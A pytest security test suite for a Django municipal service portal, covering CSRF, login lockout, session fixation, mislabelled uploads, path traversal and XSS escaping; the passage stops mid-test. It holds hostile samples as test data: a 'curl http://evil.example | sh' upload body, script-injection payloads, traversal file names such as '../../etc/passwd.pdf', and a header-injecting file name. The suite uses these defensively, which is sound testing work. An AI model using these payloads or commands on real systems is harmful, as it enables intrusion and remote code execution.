"""Attacks beside the access matrix: CSRF on every form, login brute force, session
fixation, uploads that lie about their type, path traversal in file names, script in
every free-text field, and personal data masked wherever it is listed or exported."""

from __future__ import annotations

import json
import secrets
import unicodedata
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.conf import settings
from django.contrib.sessions.backends.db import SessionStore
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils.html import escape

from tests.security.routes import LIST_PAGES, OBJECT_ROUTES
from tests.security.world import (
    COMMUNITY,
    IDS,
    MARK,
    PHONES,
    body_text,
    marker_pdf,
    person_sheet,
    snapshot,
)
from tongban.engine.validators import mask_id_card, mask_phone
from tongban.services.demo import DEMO_PASSWORD, sample_pdf

SESSION = settings.SESSION_COOKIE_NAME
CSRF_PAGE = "请求已过期或来源不明"  # templates/403_csrf.html


def fresh_token() -> str:
    return secrets.token_hex(16)  # 32 characters: Django accepts the bare secret as token


# --- CSRF -----------------------------------------------------------------------------------


def _road_form() -> dict:
    return {
        "f-applicant_name": "测试",
        "f-contact_phone": "13800000001",
        "f-location": "测试路 1 号",
        "f-area": "30",
        "f-purpose": "施工",
        "f-start_date": "2026-12-01",
        "f-end_date": "2026-12-10",
        "f-safety_commitment": "on",
        "intent": "submit",
    }


def _road_files() -> dict:
    return {
        "m-site_plan": SimpleUploadedFile("plan.pdf", sample_pdf("plan"), "application/pdf"),
        "m-id_copy": SimpleUploadedFile("id.pdf", sample_pdf("id"), "application/pdf"),
    }


# form pattern → (who posts it, path, data). Every form of the site is here (checked below).
CSRF_FORMS = {
    "accounts/login/": (
        None,
        lambda w: "/accounts/login/",
        lambda w: {"username": "zhangsan", "password": DEMO_PASSWORD},
    ),
    "accounts/logout/": ("clerk_yangchenghu", lambda w: "/accounts/logout/", lambda w: {}),
    "admin/login/": (
        None,
        lambda w: "/admin/login/",
        lambda w: {"username": "zhangsan", "password": DEMO_PASSWORD, "next": "/admin/"},
    ),
    "matters/<slug:code>/apply/": (
        "zhangsan",
        lambda w: "/matters/road_occupation/apply/",
        lambda w: {**_road_form(), **_road_files()},
    ),
    "bundles/<slug:code>/apply/": (
        "zhangsan",
        lambda w: "/bundles/newborn/apply/",
        lambda w: {"f-child_name": "测试"},
    ),
    "my/cases/<int:case_id>/act/<slug:action>/": (
        "zhangsan",
        lambda w: f"/my/cases/{w.pk('open')}/act/withdraw/",
        lambda w: {"version": str(w.cases["open"].version)},
    ),
    "my/cases/<int:case_id>/rate/": (
        "zhangsan",
        lambda w: f"/my/cases/{w.pk('approved')}/rate/",
        lambda w: {"level": "1", "comment": "差"},
    ),
    "my/cases/<int:case_id>/report/<slug:key>/": (
        "zhangsan",
        lambda w: f"/my/cases/{w.pk('open')}/report/daily_report/",
        lambda w: {},
    ),
    "work/cases/<int:case_id>/act/<slug:action>/": (
        "clerk_yangchenghu",
        lambda w: f"/work/cases/{w.pk('open')}/act/accept/",
        lambda w: {"version": str(w.cases["open"].version)},
    ),
    "work/cases/<int:case_id>/reveal/": (
        "clerk_yangchenghu",
        lambda w: f"/work/cases/{w.pk('open')}/reveal/",
        lambda w: {"field": "contact_phone"},
    ),
    "work/bulk/": (
        "clerk_yangchenghu",
        lambda w: "/work/bulk/",
        lambda w: {"case": [str(w.pk("open"))], "action": "accept"},
    ),
    "work/register/<slug:code>/": (
        "clerk_yangchenghu",
        lambda w: "/work/register/road_occupation/",
        lambda w: {**_road_form(), **_road_files(), "for_user": "zhangsan"},
    ),
    "supervise/cases/<int:case_id>/escalate/": (
        "supervisor_xiangcheng",
        lambda w: f"/supervise/cases/{w.pk('overdue')}/escalate/",
        lambda w: {"comment": "请尽快办理"},
    ),
    "registry/<slug:kind>/import/": (
        "clerk_yangchenghu",
        lambda w: "/registry/person/import/",
        lambda w: {"file": SimpleUploadedFile("p.xlsx", person_sheet([])), "partial": "1"},
    ),
    "registry/<slug:kind>/<int:pk>/reveal/": (
        "clerk_yangchenghu",
        lambda w: f"/registry/person/{w.person_pk}/reveal/",
        lambda w: {"field": "id_number"},
    ),
    "registry/<slug:kind>/export.xlsx": (
        "clerk_yangchenghu",
        lambda w: "/registry/person/export.xlsx",
        lambda w: {"unmasked": "1"},
    ),
    "requests/new/": (
        "zhangsan",
        lambda w: "/requests/new/",
        lambda w: {"f-request_type": "咨询", "f-content": "请问社保卡怎么补办", "org": COMMUNITY},
    ),
    "requests/hotline/": (
        "dispatcher_xiangcheng",
        lambda w: "/requests/hotline/",
        lambda w: {"request_type": "咨询", "content": "请问社保卡怎么补办", "org": COMMUNITY},
    ),
    "requests/hotline/similar/": (
        "dispatcher_xiangcheng",
        lambda w: "/requests/hotline/similar/",
        lambda w: {"content": "漏水", "caller": PHONES["request"]},
    ),
    "requests/queue/<int:case_id>/dispatch/": (
        "dispatcher_xiangcheng",
        lambda w: f"/requests/queue/{w.pk('request')}/dispatch/",
        lambda w: {"category": "卫生计生"},
    ),
    **{
        f"requests/<int:case_id>/{verb}/": (
            "dispatcher_xiangcheng",
            (lambda v: lambda w: f"/requests/{w.pk('repeat')}/{v}/")(verb),
            lambda w: {"comment": "测试", "org": "320507103"},
        )
        for verb in ("merge", "unmerge", "relocate", "refer")
    },
    "requests/routing/": (
        "supervisor_xiangcheng",
        lambda w: "/requests/routing/",
        lambda w: {"category": "城乡建设", "org": "", "department": "dept_health"},
    ),
}


def test_every_form_is_in_the_csrf_table():
    posting = {r.pattern for r in OBJECT_ROUTES if r.serves == {"POST"} and not r.api}
    posting |= {p.pattern for p in LIST_PAGES if p.method == "POST" and not p.api}
    posting |= {
        "accounts/login/",
        "accounts/logout/",
        "matters/<slug:code>/apply/",
        "bundles/<slug:code>/apply/",
        "registry/<slug:kind>/import/",
        "requests/new/",
        "requests/hotline/",
        "requests/routing/",
    }
    assert posting <= set(CSRF_FORMS), sorted(posting - set(CSRF_FORMS))


def _csrf_client(s, who, variant: str) -> tuple[Client, dict]:
    c = s.client(who, enforce_csrf_checks=True)
    headers: dict = {}
    if variant == "missing":
        return c, headers
    cookie = fresh_token()
    c.cookies[settings.CSRF_COOKIE_NAME] = cookie
    if variant == "forged":
        headers["X-CSRFToken"] = fresh_token()  # a token, but not the victim's
    elif variant == "foreign-origin":
        headers["X-CSRFToken"] = cookie
        headers["Origin"] = "https://evil.example"
    elif variant == "valid":
        headers["X-CSRFToken"] = cookie
    return c, headers


@pytest.mark.parametrize("variant", ["missing", "forged", "foreign-origin"])
@pytest.mark.parametrize("pattern", sorted(CSRF_FORMS))
def test_csrf_missing_or_forged_is_refused_and_changes_nothing(s, pattern, variant):
    who, path, data = CSRF_FORMS[pattern]
    w = s.world
    c, headers = _csrf_client(s, who, variant)
    before = snapshot()
    r = c.post(path(w), data(w), headers=headers)
    assert r.status_code == 403, r.status_code
    assert CSRF_PAGE in r.content.decode(), "refused, but not by the CSRF check"
    assert snapshot() == before
    if pattern == "accounts/login/" or pattern == "admin/login/":
        assert "_auth_user_id" not in c.session
    if pattern == "accounts/logout/":
        assert c.get("/work/").status_code == 200  # still signed in


@pytest.mark.parametrize(
    "pattern",
    [
        "work/cases/<int:case_id>/act/<slug:action>/",
        "work/cases/<int:case_id>/reveal/",
        "my/cases/<int:case_id>/act/<slug:action>/",
        "supervise/cases/<int:case_id>/escalate/",
        "registry/<slug:kind>/<int:pk>/reveal/",
    ],
)
def test_csrf_control_a_valid_token_goes_through(s, pattern):
    """The control: with the right token the same request does change something."""
    who, path, data = CSRF_FORMS[pattern]
    w = s.world
    c, headers = _csrf_client(s, who, "valid")
    before = snapshot()
    r = c.post(path(w), data(w), headers=headers)
    assert r.status_code in (200, 302), r.status_code
    assert snapshot() != before


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/cases", {"matter": "road_occupation", "data": {}}),
        ("/api/cases/{open}/actions/accept", {}),
        ("/api/uploads", None),
        ("/api/requests", {"data": {"request_type": "咨询", "content": "请问社保卡怎么补办"}}),
    ],
)
def test_api_writes_ignore_the_browser_session(s, path, body):
    """A session cookie (sent by the browser on its own) never authorises an API write,
    even with a valid CSRF token: writes need a bearer token."""
    w = s.world
    c, headers = _csrf_client(s, "clerk_yangchenghu", "valid")
    before = snapshot()
    url = path.format(open=w.pk("open"))
    if body is None:
        r = c.post(url, {"file": SimpleUploadedFile("a.pdf", sample_pdf("a"))}, headers=headers)
    else:
        r = c.post(url, json.dumps(body), content_type="application/json", headers=headers)
    assert r.status_code == 401, r.status_code
    assert snapshot() == before


def test_open311_post_needs_its_api_key_not_a_session(s):
    """Open311 POST is exempt from CSRF because only an api_key authorises it."""
    c = s.client("zhangsan")
    before = snapshot()
    r = c.post(
        "/open311/v2/requests.json",
        {
            "service_code": "general",
            "description": "路灯不亮了请修理",
            "address_string": "湘城大街",
        },
    )
    assert r.status_code == 403, r.content
    assert snapshot() == before


# --- login brute force ----------------------------------------------------------------------


def _login(s, username, password, ip="10.1.0.1", **headers) -> int:
    c = s.blank(REMOTE_ADDR=ip)
    r = c.post("/accounts/login/", {"username": username, "password": password}, headers=headers)
    return r.status_code


def test_five_failures_lock_the_username_from_anywhere(s):
    for _ in range(5):
        assert _login(s, "zhangsan", "wrong", "10.1.0.1") == 200
    assert _login(s, "zhangsan", DEMO_PASSWORD, "10.1.0.1") == 429
    assert _login(s, "zhangsan", DEMO_PASSWORD, "10.9.9.9") == 429  # per username
    assert _login(s, "ZhangSan", "wrong", "10.9.9.9") == 429  # the lock ignores case
    assert _login(s, "lisi", DEMO_PASSWORD, "10.1.0.1") == 302  # others are not locked out


def test_locked_page_says_when_to_retry(s):
    for _ in range(5):
        _login(s, "lisi", "wrong")
    r = s.blank().post("/accounts/login/", {"username": "lisi", "password": DEMO_PASSWORD})
    assert r.status_code == 429 and "15 分钟" in r.content.decode()
    assert "_auth_user_id" not in r.client.session


def test_twenty_failures_from_one_address_lock_the_address(s):
    for i in range(20):
        assert _login(s, f"nobody{i}", "wrong", "10.2.0.2") == 200
    assert _login(s, "clerk_canglang", DEMO_PASSWORD, "10.2.0.2") == 429
    assert _login(s, "clerk_canglang", DEMO_PASSWORD, "10.2.0.3") == 302


def test_forwarded_for_header_does_not_reset_the_address_limit(s):
    for i in range(20):
        _login(s, f"nobody{i}", "wrong", "10.3.0.3", X_Forwarded_For=f"192.0.2.{i}")
    assert (
        _login(s, "clerk_canglang", DEMO_PASSWORD, "10.3.0.3", X_Forwarded_For="192.0.2.99") == 429
    )


@pytest.mark.parametrize("variant", [" zhangsan", "zhangsan ", "ｚｈａｎｇｓａｎ"])
def test_username_variants_share_the_lock(s, variant):
    assert unicodedata.normalize("NFKC", variant).strip() == "zhangsan"
    for _ in range(5):
        _login(s, "zhangsan", "wrong", "10.4.0.4")
    assert _login(s, variant, DEMO_PASSWORD, "10.4.0.5") == 429


@pytest.fixture
def admin_staff(db):
    from django.contrib.auth import get_user_model

    return get_user_model().objects.create_superuser("ops_sec", password="Ops-sec-2026!")


def test_admin_login_is_throttled_too(s, admin_staff):
    for _ in range(5):
        _login(s, "ops_sec", "wrong", "10.5.0.5")
    assert _login(s, "ops_sec", "Ops-sec-2026!", "10.5.0.5") == 429
    c = s.blank(REMOTE_ADDR="10.5.0.6")
    c.post("/admin/login/", {"username": "ops_sec", "password": "Ops-sec-2026!", "next": "/admin/"})
    assert "_auth_user_id" not in c.session, "a locked account signed in through the admin"


def test_admin_login_failures_count(s, admin_staff):
    c = s.blank(REMOTE_ADDR="10.6.0.6")
    for _ in range(25):
        c.post("/admin/login/", {"username": "ops_sec", "password": "wrong", "next": "/admin/"})
    assert _login(s, "ops_sec", "Ops-sec-2026!", "10.6.0.7") == 429


# --- sessions -------------------------------------------------------------------------------


def test_login_rotates_a_planted_session(s):
    """Session fixation: a session id the attacker planted before login is worthless
    after it."""
    planted = SessionStore()
    planted["cart"] = "attacker"
    planted.create()
    victim = s.blank()
    victim.cookies[SESSION] = planted.session_key
    r = victim.post("/accounts/login/", {"username": "zhangsan", "password": DEMO_PASSWORD})
    assert r.status_code == 302
    new_key = victim.cookies[SESSION].value
    assert new_key != planted.session_key
    assert victim.get("/my/").status_code == 200
    attacker = s.blank()
    attacker.cookies[SESSION] = planted.session_key
    r = attacker.get("/my/")
    assert r.status_code == 302 and r["Location"].startswith("/accounts/login/")
    assert "_auth_user_id" not in SessionStore(session_key=planted.session_key).load()


def test_login_ignores_an_invented_session_id(s):
    victim = s.blank()
    invented = "a" * 32
    victim.cookies[SESSION] = invented
    victim.post("/accounts/login/", {"username": "zhangsan", "password": DEMO_PASSWORD})
    assert victim.cookies[SESSION].value != invented
    attacker = s.blank()
    attacker.cookies[SESSION] = invented
    assert attacker.get("/my/").status_code == 302


def test_session_cookie_flags(s):
    c = s.blank()
    c.post("/accounts/login/", {"username": "zhangsan", "password": DEMO_PASSWORD})
    morsel = c.cookies[SESSION]
    assert morsel["httponly"] and morsel["samesite"] == "Lax"


def test_logout_ends_the_session_on_the_server(s):
    c = s.blank()
    assert (
        c.post("/accounts/login/", {"username": "zhangsan", "password": DEMO_PASSWORD}).status_code
        == 302
    )
    key = c.cookies[SESSION].value
    assert c.get("/accounts/logout/").status_code == 405  # no logout by a cross-site <img>
    assert c.get("/my/").status_code == 200
    c.post("/accounts/logout/")
    stolen = s.blank()
    stolen.cookies[SESSION] = key
    r = stolen.get("/my/")
    assert r.status_code == 302 and r["Location"].startswith("/accounts/login/")


# --- uploads that lie about their type ------------------------------------------------------


def _png() -> bytes:
    import io

    import segno

    buf = io.BytesIO()
    segno.make("x").save(buf, kind="png")
    return buf.getvalue()


def _zip() -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("payload.sh", "#!/bin/sh\necho owned\n")
    return buf.getvalue()


LIARS = {
    "script-as-pdf": ("report.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
    "html-as-pdf": ("report.pdf", b"<html><script>alert(1)</script></html>"),
    "svg-as-png": ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "png-as-pdf": ("plan.pdf", None),  # built lazily: PNG bytes
    "zip-as-docx": ("letter.docx", None),  # a zip that is not a Word document
    "jpeg-as-png": ("photo.png", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64),
}
EXPLAINED = ("不支持的文件类型，或文件内容与扩展名不符", "扩展名是")


def _liar(kind) -> tuple[str, bytes]:
    name, data = LIARS[kind]
    if kind == "png-as-pdf":
        data = _png()
    elif kind == "zip-as-docx":
        data = _zip()
    return name, data


def _media_files(s) -> set[Path]:
    root = Path(settings.MEDIA_ROOT).parent
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("kind", sorted(LIARS))
def test_api_upload_refuses_content_that_does_not_match_the_name(s, kind):
    name, data = _liar(kind)
    before, files = snapshot(), _media_files(s)
    r = s.client(None).post(
        "/api/uploads", {"file": SimpleUploadedFile(name, data)}, headers=s.bearer("zhangsan")
    )
    assert r.status_code == 400, r.content
    assert any(m in r.json()["message"] for m in EXPLAINED), r.json()
    assert snapshot() == before and _media_files(s) == files


@pytest.mark.parametrize("kind", sorted(LIARS))
def test_portal_form_refuses_content_that_does_not_match_the_name(s, kind):
    name, data = _liar(kind)
    before = snapshot()
    form = {**_road_form(), **_road_files(), "m-site_plan": SimpleUploadedFile(name, data)}
    r = s.client("zhangsan").post("/matters/road_occupation/apply/", form)
    assert r.status_code == 400
    page = r.content.decode()
    assert any(escape(m) in page for m in EXPLAINED)
    assert snapshot()[0] == before[0]  # no case


def test_upload_control_a_real_pdf_is_accepted(s):
    r = s.client(None).post(
        "/api/uploads",
        {"file": SimpleUploadedFile("ok.pdf", sample_pdf("ok"))},
        headers=s.bearer("zhangsan"),
    )
    assert r.status_code == 201 and r.json()["type"] == "pdf"


# --- path traversal in file names -----------------------------------------------------------

NASTY_NAMES = [
    "../../etc/passwd.pdf",
    "..\\..\\x.pdf",
    "/etc/passwd.pdf",
    "C:\\Windows\\system32\\x.pdf",
    "....//....//x.pdf",
    "a\x00b.pdf",
    "evil\r\nSet-Cookie: x=1.pdf",
    "..",
    ".pdf",
    "\u202egpj.pdf",
]


def _assert_safe_name(name: str) -> None:
    assert name and "/" not in name and "\\" not in name, name
    assert all(ch.isprintable() for ch in name), repr(name)
    assert not name.startswith("."), name
    assert name not in (".", ".."), name


def _assert_stored_under_sha(s, ref, before: set[Path]) -> None:
    root = Path(settings.MEDIA_ROOT)
    sha = ref["sha256"]
    expected = root / "uploads" / sha[:2] / sha[2:4] / sha
    assert expected.is_file()
    assert _media_files(s) - before <= {expected}


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_service_stores_nasty_names_safely(s, name):
    from django.contrib.auth import get_user_model

    from tongban.services.uploads import store

    before = _media_files(s)
    ref = store(marker_pdf(f"t{len(name)}"), name, get_user_model().objects.get(username="lisi"))
    _assert_safe_name(ref["name"])
    _assert_stored_under_sha(s, ref, before)


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_api_multipart_stores_nasty_names_safely(s, name):
    before = _media_files(s)
    body, content_type = _multipart(name, marker_pdf(f"api{len(name)}"))
    r = s.client(None).post(
        "/api/uploads", body, content_type=content_type, headers=s.bearer("zhangsan")
    )
    assert r.status_code in (201, 400), r.content
    if r.status_code == 400:  # no name of ours left (e.g. ".."): refused, nothing kept
        assert _media_files(s) == before
        return
    _assert_safe_name(r.json()["name"])
    _assert_stored_under_sha(s, r.json(), before)


@pytest.mark.parametrize("name", NASTY_NAMES, ids=range(len(NASTY_NAMES)))
def test_api_material_refs_keep_a_safe_name(s, name):
    """The JSON references name the file as the caller likes: the case keeps a safe name,
    and serving it sends a clean Content-Disposition."""
    sha = s.world.sha
    body = {
        "matter": "road_occupation",
        "data": {**_api_road(), "applicant_name": "路径测试"},
        "materials": {
            "site_plan": [{"sha256": sha, "name": name}],
            "id_copy": [{"sha256": sha, "name": name}],
        },
    }
    r = s.client(None).post(
        "/api/cases",
        json.dumps(body),
        content_type="application/json",
        headers=s.bearer("zhangsan"),
    )
    assert r.status_code == 201, r.content
    case = r.json()
    for refs in case["materials"].values():
        for f in refs:
            _assert_safe_name(f["name"])
    served = s.client("zhangsan").get(f"/files/{case['id']}/{sha}")
    assert served.status_code == 200
    disposition = served["Content-Disposition"]
    assert "\n" not in disposition and "\r" not in disposition and "/" not in disposition


def _multipart(name: str, data: bytes) -> tuple[bytes, str]:
    """A multipart body carrying the file name byte for byte (the test client would
    refuse some of these names before sending them)."""
    boundary = "SecBoundary7"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="{name}"\r\nContent-Type: application/pdf\r\n\r\n'
    )
    body = head.encode("utf-8", "surrogateescape") + data + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def _api_road() -> dict:
    return {
        "applicant_name": "测试",
        "contact_phone": "13800000002",
        "location": "测试路 2 号",
        "area": "30",
        "purpose": "施工",
        "start_date": "2026-12-01",
        "end_date": "2026-12-10",
        "safety_commitment": True,
    }


def test_portal_hidden_refs_store_nasty_names_safely(s):
    """The form's hidden field of earlier uploads is JSON the browser can change."""
    from django.contrib.auth import get_user_model

    from tongban.services.uploads import store
    from tongban.store.models import Case

    ref = store(marker_pdf("hidden"), "ok.pdf", get_user_model().objects.get(username="zhangsan"))
    refs = [{"sha256": ref["sha256"], "name": n} for n in NASTY_NAMES[:5]]
    form = {
        **_road_form(),
        "m-site_plan-ref": json.dumps(refs),
        "m-id_copy-ref": json.dumps(refs[:1]),
    }
    r = s.client("zhangsan").post("/matters/road_occupation/apply/", form)
    assert r.status_code == 302, r.content.decode()[:500]
    case = Case.objects.latest("pk")
    names = [f["name"] for files in case.materials.values() for f in files]
    assert names
    for n in names:
        _assert_safe_name(n)


def test_served_material_cannot_run_in_the_page(s):
    w = s.world
    r = s.client("zhangsan").get(f"/files/{w.pk('open')}/{w.sha}")
    assert r.status_code == 200
    assert r["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in r["Content-Security-Policy"]


# --- script in every free-text field --------------------------------------------------------

P_SCRIPT = "<script>alert(1)</script>"
P_ATTR = '"><img src=x onerror=alert(1)>'
P_SHORT = '"><svg onload=alert(1)>'  # for fields shorter than P_ATTR
PAYLOADS = {"script": P_SCRIPT, "attr": P_ATTR}
FREE_TEXT = ("text", "textarea", "address")


def _fill(spec, base: dict, payload: str) -> dict:
    data = dict(base)
    for f in spec.fields:
        if f.type not in FREE_TEXT or f.internal:
            continue
        limit = f.max_length or 200
        value = payload if len(payload) <= limit else P_SHORT
        data[f.key] = value + ("。" * max(0, (f.min_length or 0) - len(value)))
    return data


@pytest.fixture(scope="module")
def xss(sec, django_db_blocker):
    """For each payload: a road-occupation case and a 12345 request with the payload in
    every free-text field, and a staff comment carrying it."""
    from django.contrib.auth import get_user_model

    from tests.security.world import road_materials
    from tongban.services import cases, catalog, requests

    users = get_user_model().objects
    zhang = users.get(username="zhangsan")
    out = {}
    with django_db_blocker.unblock():
        road = catalog.spec_of(catalog.current_version("road_occupation"))
        req = catalog.spec_of(catalog.current_version("citizen_request"))
        mats = road_materials(zhang)
        for key, payload in PAYLOADS.items():
            road_base = {**_api_road(), "contact_phone": "13800000003"}
            c = cases.submit(
                "road_occupation", zhang, _fill(road, road_base, payload), materials=mats
            )
            cases.act(
                c.pk,
                users.get(username="clerk_yangchenghu"),
                cases.ActRequest(action="request_correction", comment=payload),
            )
            r = requests.intake(
                zhang,
                _fill(req, {"request_type": "投诉", "contact_phone": "13800000004"}, payload),
                org_code=COMMUNITY,
            )
            out[key] = {"road": c.pk, "request": r.pk, "token": requests.token_of(r)}
    return out


STAFF_OF = {"road": "clerk_yangchenghu", "request": "dispatcher_xiangcheng"}


def _no_raw(text: str) -> None:
    for p in (P_SCRIPT, P_ATTR, P_SHORT):
        assert p not in text, f"unescaped {p!r}"


PAGES = ["applicant", "staff", "worklist", "my-list"]
REQUEST_PAGES = ["request-page", "open311-xml", "track"]


@pytest.mark.parametrize(
    ("page", "payload", "matter"),
    [
        (page, payload, matter)
        for matter in ("road", "request")
        for page in PAGES + (REQUEST_PAGES if matter == "request" else [])
        for payload in sorted(PAYLOADS)
    ],
)
def test_script_in_free_text_is_escaped_on_pages(s, xss, page, payload, matter):
    from xml.sax.saxutils import escape as xml_escape

    pk = xss[payload][matter]
    shown = True
    if page == "request-page":
        r = s.client("dispatcher_xiangcheng").get(f"/requests/{pk}/")
    elif page == "open311-xml":
        r = s.client(None).get(f"/open311/v2/requests/{pk}.xml")
    elif page == "track":
        r = s.client(None).get(f"/requests/track/?token={xss[payload]['token']}")
        shown = False
    elif page == "applicant":
        r = s.client("zhangsan").get(f"/my/cases/{pk}/")
    elif page == "staff":
        r = s.client(STAFF_OF[matter]).get(f"/work/cases/{pk}/")
    elif page == "worklist":
        r = s.client(STAFF_OF[matter]).get("/work/?tab=todo")
        shown = False
    else:
        r = s.client("zhangsan").get("/my/")
        shown = False
    assert r.status_code == 200
    text = r.content.decode()
    _no_raw(text)
    if shown:
        forms = [f(p) for p in (PAYLOADS[payload], P_SHORT) for f in (escape, xml_escape)]
        assert any(f in text for f in forms), "the value is not shown at all"


@pytest.mark.parametrize("matter", ["road", "request"])
@pytest.mark.parametrize("payload", sorted(PAYLOADS))
@pytest.mark.parametrize("who", ["zhangsan", "staff"])
def test_script_in_free_text_is_inert_in_the_api(s, xss, who, payload, matter):
    pk = xss[payload][matter]
    user = STAFF_OF[matter] if who == "staff" else who
    for path in (f"/api/cases/{pk}", f"/api/cases/{pk}/events", "/api/worklist"):
        r = s.client(None).get(path, headers=s.bearer(user))
        if path == "/api/worklist" and who == "zhangsan":
            assert r.status_code == 403
            continue
        assert r.status_code == 200
        assert r["Content-Type"].startswith("application/json")
        assert r["X-Content-Type-Options"] == "nosniff"
    case = s.client(None).get(f"/api/cases/{pk}", headers=s.bearer(user)).json()
    # JSON carries the text as data; it is the client's job to escape it — but it must be
    # the text as typed (no HTML in the JSON that a client could trust as markup).
    values = json.dumps(case["data"], ensure_ascii=False)
    assert PAYLOADS[payload] in values or P_SHORT in values or who == "staff"


REFLECTING = [
    ("anonymous", "/matters/?q={p}"),
    ("anonymous", "/matters/?category={p}"),
    ("anonymous", "/reports/food/?from={p}&to={p}"),
    ("anonymous", "/verify/{p}?sig={p}"),
    ("zhangsan", "/matters/road_occupation/apply/?org={p}"),
    ("clerk_yangchenghu", "/work/?tab={p}&matter={p}&state={p}&page={p}"),
    ("clerk_yangchenghu", "/work/register/road_occupation/?for_user={p}"),
    ("clerk_yangchenghu", "/registry/person/?q={p}&org={p}&page={p}"),
    ("clerk_yangchenghu", "/registry/person/lookup?q={p}&limit={p}"),
    ("supervisor_xiangcheng", "/supervise/?from={p}&to={p}&org={p}"),
    ("supervisor_xiangcheng", "/supervise/?from={p}&to={p}"),
    ("supervisor_xiangcheng", "/supervise/overdue/?org={p}&page={p}"),
    ("supervisor_xiangcheng", "/reports/home-work/?month={p}"),
    ("supervisor_xiangcheng", "/reports/resumption/?from={p}&to={p}"),
]


@pytest.mark.parametrize("payload", [P_SCRIPT, P_ATTR], ids=["script", "attr"])
@pytest.mark.parametrize(("who", "url"), REFLECTING, ids=[u for _, u in REFLECTING])
def test_query_parameters_are_never_reflected_raw(s, who, url, payload):
    from urllib.parse import quote

    p = quote(payload, safe="") if "/verify/" in url else urlencode({"x": payload})[2:]
    if "/verify/" in url and "/" in payload:
        p = quote(P_ATTR, safe="")
    r = s.client(None if who == "anonymous" else who).get(url.format(p=p))
    assert r.status_code < 500
    _no_raw(body_text(r))


def test_script_in_registry_fields_is_escaped(s, tmp_path):
    from tongban.services import registry

    row = {
        "姓名": P_SCRIPT,
        "身份证号码": IDS["mother"],
        "联系电话": "13800000005",
        "居住地址": P_ATTR,
        "所属网格/社区": "32050710300101",
        "人员标签": "独居老人",
        "备注": P_ATTR,
    }
    src = tmp_path / "xss.xlsx"
    src.write_bytes(person_sheet([row]))
    assert registry.import_file("person", src, None).imported
    from tongban.store.models import Person

    pk = Person.objects.get(id_number=IDS["mother"]).pk
    c = s.client("clerk_yangchenghu")
    for path in ("/registry/person/", f"/registry/person/{pk}/"):
        text = c.get(path).content.decode()
        _no_raw(text)
        assert escape(P_SCRIPT) in text


# --- personal data: masked unless revealed (and logged) -------------------------------------


def _full_and_masked(kind: str) -> tuple[str, str]:
    if kind in IDS:
        return IDS[kind], mask_id_card(IDS[kind])
    return PHONES[kind], mask_phone(PHONES[kind])


@pytest.mark.parametrize(
    ("who", "obj", "secret"),
    [
        ("clerk_yangchenghu", "open", "open"),
        ("reviewer_yangchenghu", "approved", "approved"),
        ("dispatcher_xiangcheng", "request", "request"),
        ("birth_registrar_xiangcheng", "birth", "mother"),
        ("mediator_yangchenghu", "mediation", "party"),
        ("supervisor_xiangcheng", "mediation", "party"),
        ("head_yangchenghu", "open", "open"),
    ],
)
def test_staff_case_page_and_api_mask_personal_data(s, who, obj, secret):
    w = s.world
    full, masked = _full_and_masked(secret)
    page = s.client(who).get(f"/work/cases/{w.pk(obj)}/")
    assert page.status_code == 200
    text = page.content.decode()
    assert full not in text and masked in text
    api = s.client(None).get(f"/api/cases/{w.pk(obj)}", headers=s.bearer(who))
    assert api.status_code == 200 and api.json()["masked"] is True
    assert full not in body_text(api) and masked in body_text(api)
    events = s.client(None).get(f"/api/cases/{w.pk(obj)}/events", headers=s.bearer(who))
    assert full not in body_text(events)


def test_the_applicant_sees_their_own_data(s):
    w = s.world
    api = s.client(None).get(f"/api/cases/{w.pk('open')}", headers=s.bearer("zhangsan"))
    assert api.json()["masked"] is False and api.json()["data"]["contact_phone"] == PHONES["open"]
    assert PHONES["open"] in s.client("zhangsan").get(f"/my/cases/{w.pk('open')}/").content.decode()


def test_staff_action_response_is_masked(s):
    w = s.world
    r = s.client(None).post(
        f"/api/cases/{w.pk('open')}/actions/accept",
        "{}",
        content_type="application/json",
        headers=s.bearer("clerk_yangchenghu"),
    )
    assert r.status_code == 200, r.content
    assert PHONES["open"] not in body_text(r) and r.json()["masked"] is True


@pytest.mark.parametrize(
    ("who", "obj", "field", "secret"),
    [
        ("clerk_yangchenghu", "open", "contact_phone", "open"),
        ("mediator_yangchenghu", "mediation", "parties.0.party_id_card", "party"),
        ("birth_registrar_xiangcheng", "birth", "mother_id", "mother"),
    ],
)
def test_reveal_shows_one_value_and_logs_it(s, who, obj, field, secret):
    from tongban.store.models import RevealLog

    w = s.world
    full, _ = _full_and_masked(secret)
    c = s.client(who)
    assert c.get(f"/work/cases/{w.pk(obj)}/reveal/?field={field}").status_code == 405
    before = RevealLog.objects.count()
    r = c.post(f"/work/cases/{w.pk(obj)}/reveal/", {"field": field}, REMOTE_ADDR="10.7.0.7")
    assert r.status_code == 200 and r.content.decode() == full
    assert RevealLog.objects.count() == before + 1
    log = RevealLog.objects.latest("pk")
    assert (log.user.username, log.case_id, log.field, log.ip) == (
        who,
        w.pk(obj),
        field,
        "10.7.0.7",
    )


@pytest.mark.parametrize("who", ["supervisor_xiangcheng", "head_yangchenghu"])
def test_supervision_export_has_no_personal_data(s, who):
    import io

    from openpyxl import load_workbook

    w = s.world
    r = s.client(who).get("/supervise/export.xlsx")
    assert r.status_code == 200
    overdue = load_workbook(io.BytesIO(r.content))["超期清单"]
    assert w.pk("overdue") in [row[0] for row in overdue.iter_rows(min_row=2, values_only=True)]
    text = body_text(r)
    for value in [*PHONES.values(), *IDS.values(), MARK]:
        assert value not in text  # the overdue case is listed without anyone's data


def test_registry_lists_lookups_and_exports_are_masked(s):
    w = s.world
    full, masked = IDS["registry"], mask_id_card(IDS["registry"])
    phone = PHONES["registry"]
